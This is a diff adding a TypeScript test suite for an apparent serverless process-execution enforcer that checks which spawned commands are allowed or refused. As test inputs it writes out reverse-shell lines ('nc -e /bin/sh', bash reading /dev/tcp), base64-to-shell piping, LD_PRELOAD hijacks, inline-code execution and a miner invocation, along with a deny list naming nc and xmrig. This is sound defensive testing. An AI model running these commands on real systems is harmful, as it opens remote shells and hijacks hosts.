@@ -1,0 +1,270 @@
+import { fakeSystem, LAMBDA_FILES } from './fake-system';
+import { evaluate } from '../../../lambda-layer/src/decision';
+import { decodePolicy } from '../../../lambda-layer/src/policy';
+import type { Decision, Policy, SpawnRequest } from '../../../lambda-layer/src/types';
+
+const system = fakeSystem(LAMBDA_FILES);
+const PRELOAD = '--require /opt/nano-enforcer/preload.js';
+const ENV = { PATH: '/usr/local/bin:/usr/bin:/bin', NODE_OPTIONS: PRELOAD, HOME: '/tmp' };
+
+function policy(json?: object): Policy {
+  const { policy: p, fault } = decodePolicy(json ? JSON.stringify({ v: 1, ...json }) : undefined);
+  if (fault) throw new Error(fault);
+  return p;
+}
+const DRIFT = policy();
+const STRICT = policy({ a: ['sh', 'ls', 'cat', 'grep', 'echo', 'curl', 'node', '/var/task/bin/catdoc', '/var/task/run.sh', 'env', 'timeout'] });
+
+function spawn(file: string, args: string[], over: Partial<SpawnRequest> = {}): SpawnRequest {
+  return { kind: 'spawn', api: 'spawn', file, args, cwd: '/var/task', env: ENV, envExplicit: false, ...over };
+}
+function sh(line: string, over: Partial<SpawnRequest> = {}): SpawnRequest {
+  return spawn('/bin/sh', ['/bin/sh', '-c', line], over);
+}
+type Refused = Extract<Decision, { allow: false }>;
+function refused(d: Decision): Refused {
+  if (d.allow) throw new Error('expected a refusal, got allow');
+  return d;
+}
+
+describe('drift prevention (no allowlist)', () => {
+  it.each([
+    ['a system tool found on PATH', spawn('ls', ['ls', '-l'])],
+    ['a function binary under /var/task', spawn('/var/task/bin/catdoc', ['catdoc'])],
+    ['a shell line of pipelines, lists and substitutions of system tools', sh('ls | grep x && echo "$(cat /etc/hostname)" > /dev/null || true')],
+    ['a script from the read-only code directory (the interpreter is trusted too)', spawn('/var/task/run.sh', ['run.sh'])],
+    ['a #!/usr/bin/env node script whose env and node are trusted', spawn('/var/task/envnode.js', ['envnode.js'])],
+    ['node running a file of the function', spawn('node', ['node', '/var/task/index.js'])],
+    ['a for loop, a case statement and a shell function', sh('for f in a b; do case $f in a) ls;; *) echo b;; esac; done; f() { cat x; }; f')],
+    ['the PATH idiom export PATH=$PATH:/var/task/bin', sh('export PATH=$PATH:/var/task/bin; catdoc x')],
+    ['a here-document whose substitution runs a trusted tool', sh('cat <<EOF\nhost $(ls)\nEOF\n')],
+    ['a quoted here-document, whose text is not run', sh("cat <<'EOF'\n$(/tmp/evil)\nEOF\n")],
+    ['wrappers around a trusted command', sh('nohup timeout -s KILL 5 env -i FOO=1 ls -l')],
+    ['a redirection target that is only known at run time', sh('ls > "$OUT"')],
+    ['awk without system() or pipes', spawn('awk', ['awk', '-F:', '{print $1 "|" $2}', '/etc/passwd'])],
+  ])('allows %s', (_name, req) => {
+    expect(evaluate(DRIFT, req, system)).toEqual({ allow: true });
+  });
+
+  it.each([
+    ['a binary dropped in /tmp', spawn('/tmp/evil', ['evil']), 'writable-location'],
+    ['a binary in /dev/shm', spawn('/dev/shm/x', ['x']), 'writable-location'],
+    ['a memfd executed through /proc/self/fd', spawn('/proc/self/fd/3', ['x']), 'writable-location'],
+    ['a read-only-location file modified after start', spawn('/var/task/bin/late', ['late']), 'drift'],
+    ['a /tmp binary run through a relative path from cwd /tmp', spawn('./evil', ['evil'], { cwd: '/tmp' }), 'writable-location'],
+    ['a /tmp binary found through the CHILD\'s PATH', spawn('evil', ['evil'], { env: { ...ENV, PATH: '/tmp:/usr/bin' } }), 'writable-location'],
+    ['a /tmp binary inside a pipeline of a shell line', sh('ls | /tmp/evil'), 'writable-location'],
+    ['a /tmp binary inside a command substitution', sh('echo "$(/tmp/evil)"'), 'writable-location'],
+    ['a /tmp binary inside a subshell after cd /tmp', sh('(cd /tmp && ./evil)'), 'writable-location'],
+    ['a /tmp binary behind an assignment prefix PATH=/tmp', sh('PATH=/tmp evil'), 'writable-location'],
+    ['a /tmp binary behind nohup/timeout/env', sh('nohup timeout 5 env /tmp/evil'), 'writable-location'],
+    ['a /tmp binary behind env -S', spawn('env', ['env', '-S', 'FOO=1 /tmp/evil -x']), 'writable-location'],
+    ['a /tmp binary behind xargs', sh('echo x | xargs /tmp/evil'), 'writable-location'],
+    ['a /tmp binary behind find -exec', spawn('find', ['find', '.', '-exec', '/tmp/evil', '{}', ';']), 'writable-location'],
+    ['a /tmp binary behind sudo', spawn('sudo', ['sudo', '-u', 'root', '/tmp/evil']), 'writable-location'],
+    ['a /tmp binary behind strace', spawn('strace', ['strace', '-f', '-o', '/dev/null', '/tmp/evil']), 'writable-location'],
+    ['a /tmp binary run by the dynamic loader', spawn('/lib64/ld-linux-x86-64.so.2', ['ld.so', '/tmp/evil']), 'writable-location'],
+    ['a /tmp binary run by the dynamic loader with --library-path first', spawn('/lib64/ld-linux-x86-64.so.2', ['ld.so', '--library-path', '/usr/lib', '/tmp/evil']), 'writable-location'],
+    ['a trusted script whose #! interpreter is in /tmp', spawn('/var/task/evil-interp.sh', ['x']), 'writable-location'],
+    ['a /tmp script run by a trusted shell', spawn('sh', ['sh', '/tmp/evil.sh']), 'writable-location'],
+    ['a /tmp script run by bash -c inside sh -c', sh("bash -c '/tmp/evil'"), 'writable-location'],
+    ['sourcing a /tmp file', sh('. /tmp/evil.sh'), 'writable-location'],
+    ['node requiring a /tmp module', spawn('node', ['node', '-r', '/tmp/evil.js', '/var/task/index.js']), 'writable-location'],
+    ['node running a /tmp script', spawn('node', ['node', '/tmp/evil.js']), 'writable-location'],
+    ['LD_PRELOAD of a /tmp library', spawn('ls', ['ls'], { env: { ...ENV, LD_PRELOAD: '/tmp/evil.so' } }), 'loader-env'],
+    ['LD_LIBRARY_PATH with /tmp, set inside the shell line', sh('LD_LIBRARY_PATH=/tmp ls'), 'loader-env'],
+    ['ld.so --preload of a /tmp library', spawn('/lib64/ld-linux-x86-64.so.2', ['ld.so', '--preload', '/tmp/evil.so', '/usr/bin/ls']), 'loader'],
+  ])('refuses %s', (_name, req, rule) => {
+    const d = refused(evaluate(DRIFT, req, system));
+    expect(d.control).toBe('process');
+    expect(d.detail?.rule).toBe(rule);
+  });
+
+  it('names the command of the shell line that was refused', () => {
+    const d = refused(evaluate(DRIFT, sh('ls -l; /tmp/evil --flag'), system));
+    expect(d.detail).toMatchObject({ command: '/tmp/evil --flag', file: '/tmp/evil', resolved: '/tmp/evil', argv: ['/tmp/evil', '--flag'] });
+    expect(d.reason).toBe('/tmp/evil /tmp/evil is in a writable location');
+  });
+
+  it('reports drift as a change after start, not as a writable location', () => {
+    expect(refused(evaluate(DRIFT, spawn('/var/task/bin/late', ['late']), system)).reason).toMatch(/modified after the process started/);
+  });
+
+  it('trusts /tmp paths listed in allowedWritablePaths, drift included', () => {
+    const p = policy({ w: ['/tmp/tools'] });
+    expect(evaluate(p, spawn('/tmp/tools/jq', ['jq']), system)).toEqual({ allow: true });
+    expect(refused(evaluate(p, spawn('/tmp/evil', ['evil']), system)).detail?.rule).toBe('writable-location');
+  });
+
+  it('truncates argv in the detail to 10 items of 200 characters', () => {
+    const long = 'x'.repeat(500);
+    const d = refused(evaluate(DRIFT, spawn('/tmp/evil', ['evil', ...Array(20).fill(long)]), system));
+    const argv = d.detail?.argv as string[];
+    expect(argv).toHaveLength(10);
+    expect(argv[1].length).toBe(201);
+  });
+});
+
+describe('commands that cannot be known statically', () => {
+  it.each([
+    ['a command substitution as the command name', sh('$(echo ls)')],
+    ['a parameter expansion as the command name', sh('"$CMD" -x')],
+    ['backquotes as the command name', sh('`echo ls` -l')],
+    ['eval', sh('eval "$x"')],
+    ['base64 decoded into a shell', sh('echo aWQ= | base64 -d | sh')],
+    ['a shell reading stdin (sh with no script)', spawn('sh', ['sh'])],
+    ['sh -s', spawn('sh', ['sh', '-s'])],
+    ['bash -i', spawn('bash', ['bash', '-i'])],
+    ['bash reading /dev/tcp', sh('bash < /dev/tcp/10.0.0.1/4444')],
+    ['sh -c with a command string only known at run time', sh('sh -c "$PAYLOAD"')],
+    ['a line that does not parse', sh('echo "unterminated')],
+    ['alias defining a command', sh("alias ls='/tmp/evil'; ls")],
+    ['hash -p mapping a name to another file', sh('hash -p /tmp/evil ls; ls')],
+    ['a PATH only known at run time', sh('PATH=$(cat /tmp/p) ls')],
+    ['a glob as the command name', sh('/tmp/ev* -x')],
+    ['a brace expansion as the command name', sh('{/tmp/evil,} x')],
+    ['xargs feeding sh -c its command string', sh('cat list | xargs sh -c')],
+    ['a wrapper option this parser does not know', spawn('timeout', ['timeout', '--bogus', '5', 'ls'])],
+    ['BASH_ENV with a command substitution', spawn('bash', ['bash', '-c', 'ls'], { env: { ...ENV, BASH_ENV: '$(id)' } })],
+    ['an exported bash function', spawn('bash', ['bash', '-c', 'ls'], { env: { ...ENV, 'BASH_FUNC_ls%%': '() { /tmp/evil; }' } })],
+    ['a /tmp source through a dynamic name', sh('. "$F"')],
+  ])('refuses %s in every mode (always)', (_name, req) => {
+    const d = refused(evaluate(policy({ m: 'a' }), req, system));
+    expect(d.always).toBe(true);
+  });
+
+  it('refuses nesting deeper than the limit', () => {
+    let line = 'ls';
+    for (let i = 0; i < 20; i++) line = `sh -c ${JSON.stringify(line).replace(/\$/g, '\\$')}`;
+    const d = refused(evaluate(DRIFT, sh(line), system));
+    expect(d.always).toBe(true);
+  });
+
+  it('resolves ANSI-C quoting statically ($\'\\x2ftmp\\x2fevil\' is /tmp/evil)', () => {
+    const d = refused(evaluate(DRIFT, spawn('bash', ['bash', '-c', "$'\\x2ftmp\\x2fevil'"]), system));
+    expect(d.detail?.resolved).toBe('/tmp/evil');
+    expect(d.always).toBeUndefined();
+  });
+
+  it('reports a static refusal without always', () => {
+    expect(refused(evaluate(DRIFT, spawn('/tmp/evil', ['evil']), system)).always).toBeUndefined();
+  });
+
+  it('prefers a refusal that holds in every mode over an earlier one that does not', () => {
+    const d = refused(evaluate(DRIFT, sh('/tmp/evil; eval "$x"'), system));
+    expect(d.always).toBe(true);
+    expect(d.detail?.rule).toBe('dynamic-command');
+  });
+});
+
+describe('strict allowlist', () => {
+  it.each([
+    ['a listed bare name resolved on PATH', spawn('ls', ['ls'])],
+    ['a listed absolute path', spawn('/var/task/bin/catdoc', ['catdoc'])],
+    ['a listed name reached through a symlink in a trusted directory (/bin/sh -> dash)', spawn('/bin/sh', ['sh', '-c', 'ls | grep x'])],
+    ['a listed #! script whose interpreter is listed', spawn('/var/task/run.sh', ['run.sh'])],
+    ['shell builtins, which are not executables', sh('cd /; export A=1; echo $A; test -n x && true')],
+    ['a wrapper and its command when both are listed', spawn('timeout', ['timeout', '5', 'curl', 'x'])],
+  ])('allows %s', (_name, req) => {
+    expect(evaluate(STRICT, req, system)).toEqual({ allow: true });
+  });
+
+  it.each([
+    ['an unlisted executable', spawn('base64', ['base64'])],
+    ['an unlisted command inside the shell line', sh('ls; base64 -d x')],
+    ['an unlisted command in a command substitution', sh('echo $(base64 x)')],
+    ['an unlisted shell nested in the line', sh("bash -c 'ls'")],
+    ['an unlisted wrapper around a listed command', spawn('nohup', ['nohup', 'ls'])],
+    ['a listed script whose interpreter is not listed', spawn('/var/task/envnode.js', ['x'], { env: { ...ENV } })],
+    ['a symlink in /tmp named like a listed command (curl -> bash)', spawn('/tmp/curl', ['curl', '-c', 'id'])],
+    ['a busybox applet whose applet name is not listed', spawn('/tmp/ls', ['base64'])],
+  ])('refuses %s', (_name, req) => {
+    expect(refused(evaluate(STRICT, req, system)).detail?.rule).toBe('allowlist');
+  });
+
+  it('matches a sha256 entry by content, even in a writable location', () => {
+    const hash = system.sha256('/tmp/evil')!;
+    expect(evaluate(policy({ a: [`sha256:${hash}`] }), spawn('/tmp/evil', ['evil']), system)).toEqual({ allow: true });
+  });
+
+  it('does not trust a listed name whose file lives in /tmp', () => {
+    const d = refused(evaluate(policy({ a: ['evil'] }), spawn('/tmp/evil', ['evil']), system));
+    expect(d.detail?.rule).toBe('writable-location');
+  });
+
+  it('matches absolute globs against the real path', () => {
+    expect(evaluate(policy({ a: ['/var/task/bin/*'] }), spawn('/var/task/bin/catdoc', ['c']), system)).toEqual({ allow: true });
+    expect(evaluate(policy({ a: ['/usr/**'] }), spawn('/bin/ls', ['ls']), system)).toEqual({ allow: true });
+    expect(refused(evaluate(policy({ a: ['/usr/bin/l?'] }), spawn('cat', ['cat']), system)).detail?.rule).toBe('allowlist');
+  });
+});
+
+describe('deny list', () => {
+  it.each([
+    ['nc by name on PATH', spawn('nc', ['nc', '-l', '4444'])],
+    ['nc behind its symlink (resolved basename nc.openbsd, given name nc)', spawn('/usr/bin/nc', ['nc'])],
+    ['nc inside a shell line', sh('ls; nc -e /bin/sh 10.0.0.1 4444')],
+    ['nc behind env and nohup', spawn('env', ['env', 'nohup', 'nc', 'x'])],
+    ['a busybox applet named nc through argv0', spawn('/usr/bin/busybox', ['nc', '-l'])],
+    ['busybox nc', spawn('busybox', ['busybox', 'nc', '-l'])],
+    ['xmrig that does not even exist', sh('xmrig --donate-level 1')],
+  ])('refuses %s', (_name, req) => {
+    expect(refused(evaluate(DRIFT, req, system)).detail?.rule).toBe('blocked');
+  });
+
+  it('refuses a blocked executable even when it is allowlisted', () => {
+    expect(refused(evaluate(policy({ a: ['nc'], d: ['nc'] }), spawn('nc', ['nc']), system)).detail?.rule).toBe('blocked');
+  });
+
+  it('refuses by sha256 of the content whatever the name', () => {
+    const hash = system.sha256('/usr/bin/curl')!;
+    const d = refused(evaluate(policy({ d: [`sha256:${hash}`] }), sh('ls; curl x'), system));
+    expect(d.reason).toMatch(/deny list \(sha256:/);
+  });
+
+  it('refuses by absolute glob of the path', () => {
+    expect(refused(evaluate(policy({ d: ['/usr/bin/cu*'] }), spawn('curl', ['curl']), system)).detail?.rule).toBe('blocked');
+  });
+
+  it('lets a policy with its own deny list run what the default list blocks', () => {
+    expect(evaluate(policy({ d: ['xmrig'] }), spawn('nc', ['nc']), system)).toEqual({ allow: true });
+  });
+});
+
+describe('inline code', () => {
+  it.each([
+    ['node -e', spawn('node', ['node', '-e', 'require("child_process")'])],
+    ['node --eval=', spawn('node', ['node', '--eval=1'])],
+    ['node -p', spawn('node', ['node', '-p', '1'])],
+    ['node with no script (stdin)', spawn('node', ['node'])],
+    ['python -c (through the python3 symlink)', spawn('python3', ['python3', '-c', 'import os'])],
+    ['python -Ic (clustered)', spawn('python3', ['python3', '-Ic', 'import os'])],
+    ['perl -e', spawn('perl', ['perl', '-e', 'exec "/bin/sh"'])],
+    ['perl -lne (clustered)', spawn('perl', ['perl', '-lne', 'print'])],
+    ['ruby -e', spawn('ruby', ['ruby', '-e', 'x'])],
+    ['php -r', spawn('php', ['php', '-r', 'system("id");'])],
+    ['lua -e', spawn('lua5.4', ['lua', '-e', 'os.execute("id")'])],
+    ['awk with system()', spawn('awk', ['awk', 'BEGIN{system("id")}'])],
+    ['awk piping to a command', spawn('awk', ['awk', '{print | "sh"}'])],
+    ['python -c inside a shell line', sh('ls; python3 -c "print(1)"')],
+  ])('refuses %s', (_name, req) => {
+    expect(refused(evaluate(DRIFT, req, system)).detail?.rule).toBe('inline-code');
+  });
+
+  it('allows inline code for an interpreter named in allowInlineCode, version suffixes included', () => {
+    const p = policy({ i: ['python', 'node'] });
+    expect(evaluate(p, spawn('python3', ['python3', '-c', '1']), system)).toEqual({ allow: true });
+    expect(evaluate(p, spawn('node', ['node', '-e', '1']), system)).toEqual({ allow: true });
+    expect(refused(evaluate(p, spawn('perl', ['perl', '-e', '1']), system)).detail?.rule).toBe('inline-code');
+  });
+
+  it('allows a shell reading stdin only when allowInlineCode names the shell', () => {
+    expect(evaluate(policy({ i: ['dash'] }), spawn('sh', ['sh']), system)).toEqual({ allow: true });
+    expect(evaluate(policy({ i: ['sh'] }), spawn('sh', ['sh']), system)).toEqual({ allow: true });
+  });
+
+  it('does not treat python -m or a script file as inline', () => {
+    expect(evaluate(DRIFT, spawn('python3', ['python3', '-m', 'json.tool']), system)).toEqual({ allow: true });
+    expect(evaluate(DRIFT, spawn('python3', ['python3', '-u', '/var/task/index.js']), system)).toEqual({ allow: true });
+  });
+});
